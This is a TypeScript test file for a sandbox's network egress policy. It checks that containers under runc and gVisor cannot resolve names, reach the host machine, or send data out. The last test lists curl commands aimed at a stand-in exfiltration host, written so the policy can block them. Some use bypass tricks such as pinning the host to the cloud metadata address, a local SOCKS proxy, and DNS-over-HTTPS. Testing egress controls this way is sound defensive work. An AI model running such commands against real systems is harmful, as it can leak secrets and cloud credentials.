import { hostname } from 'node:os'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { disposeAll } from '../lib/dispose-all.ts'
import { openWeb, type Web } from '../lib/web.ts'
import { type EgressScene, openEgressScene } from './egress-scene.ts'
import { startPlain } from './plain-container.ts'
import { said } from './scene.ts'

const secret = 'what only this machine may see'

describe.each(['runc', 'gvisor'] as const)('behind %s, a name', (isolation) => {
  let local: Web
  let scene: EgressScene
  beforeAll(async () => {
    local = await openWeb((_request, response) => response.end(secret))
    // The machine’s own name, as a resolver of the attacker’s could answer for any other.
    const rules = [
      { host: hostname().toLowerCase(), scheme: 'http', ports: [local.port] },
      { host: 'allowed.invalid', scheme: 'http' },
    ]
    scene = await openEgressScene({ allow: rules, ask: rules, isolation })
  })
  afterAll(() => disposeAll(scene, local))

  test('that leads to an address of this machine is not followed, though it is allowed', async () => {
    const url = `http://${hostname()}:${local.port}/`
    await using onHost = await startPlain('host')
    expect(await onHost.said(`curl -sS -m 5 --noproxy '*' '${url}'`)).toBe(secret)
    local.heard()

    const answer = await said(scene.box, `curl -sS -m 5 '${url}'`)
    expect(answer).toContain('"reason":"address_not_allowed"')
    expect(local.heard()).toEqual([])
  })

  test('is not looked up inside, and that is said at once', async () => {
    for (const name of ['secret.exfil.example.com', 'allowed.invalid', 'localhost.evil.example']) {
      const began = performance.now()
      expect(await said(scene.box, `getent hosts ${name} || echo NOTHING`)).toBe('NOTHING\n')
      expect(performance.now() - began).toBeLessThan(8000)
    }
  })

  test('that exists nowhere is answered at once, and as no matter of policy', async () => {
    const began = performance.now()
    const answer = await said(scene.box, 'curl -sS -m 9 http://allowed.invalid/')

    expect(answer).toContain('"error":"unreachable"')
    expect(performance.now() - began).toBeLessThan(8000)
  })

  test('that nobody allowed carries nothing out, however it is asked for', async () => {
    const name = 'c2VjcmV0.exfil.example'
    const asked = [
      `curl -sS -m 5 http://${name}/`,
      `curl -sS -m 5 https://${name}/`,
      `curl -sS -m 5 --resolve '*:80:169.254.169.254' http://${name}/`,
      `curl -sS -m 5 --socks5-hostname 127.0.0.1:3128 http://${name}/`,
      `curl -sS -m 5 --doh-url https://${name}/ http://other.example/`,
    ]
    for (const command of asked) {
      expect(await said(scene.box, command), command).toMatch(/blocked_by_policy|curl: \(\d+\)/)
    }
    const targets = (await scene.decisions()).map(({ type }) => type)
    expect(new Set(targets)).toEqual(new Set(['egress_denied']))
  })
})
